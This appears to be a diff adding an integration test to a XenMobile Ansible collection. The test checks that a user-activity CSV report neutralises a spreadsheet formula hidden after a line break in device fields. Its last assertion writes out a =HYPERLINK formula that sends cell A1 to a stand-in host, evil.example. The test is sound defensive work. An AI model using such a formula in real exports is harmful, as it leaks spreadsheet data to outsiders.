@@ -4,9 +4,10 @@ ansible-playbook runs against the simulator."""
 import csv
 import datetime
 import html
+import io
 import re
 
-from tests.integration.xenmobile_support import xenmobile, xm_env
+from tests.integration.xenmobile.support import FORMULA, csv_problems, plant_formula_device, xenmobile, xm_env
 from tests.simulator.services.xenmobile import seeding as xenmobile_seed
 
 DEVICE_INFO = 'opencitrix.automation.xenmobile_device_info'
@@ -147,3 +148,26 @@ def test_user_activity_report(sim, run_playbook, tmp_path):
         if seen:
             per_day[seen.date().isoformat()] = per_day.get(seen.date().isoformat(), 0) + 1
     assert all(int(count) == per_day.get(day, 0) for day, count in bars)
+
+
+def test_user_activity_csv_neutralises_a_formula_after_a_line_break(sim, run_playbook, tmp_path):
+    """A device owner and platform holding a line break and then =HYPERLINK(...): the CSV quotes the
+    multi-line values and prefixes the formula with ', so no row starts with it and a spreadsheet shows
+    the text; parsed back, the cells hold that neutralised text."""
+    plant_formula_device(sim)
+    run = run_playbook([{'name': 'report', 'hosts': 'targets', 'gather_facts': False,
+                         'roles': [{'role': 'opencitrix.automation.xenmobile_user_activity',
+                                    'vars': {'xenmobile_user_activity_dest': str(tmp_path / 'report')}}]}],
+                       env=xm_env(sim))
+    assert run.rc == 0, run
+    report = run.task('opencitrix.automation.xenmobile_user_activity : Show the summary')['result'][
+        'xenmobile_user_activity_report']
+    with open(report['csv'], newline='') as handle:
+        text = handle.read()
+    assert csv_problems(text) == []
+    rows = list(csv.reader(io.StringIO(text, newline='')))
+    assert not [row for row in rows if row[0].startswith('=')]
+    [evil] = [row for row in rows if row[0].startswith('eve@acme.com')]
+    assert evil[0] == "eve@acme.com\n'" + FORMULA and evil[3].startswith("iOS\n'" + FORMULA)
+    assert '"eve@acme.com\n\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open report"")"' in text
+    assert len(rows) == 1 + report['summary']['users']
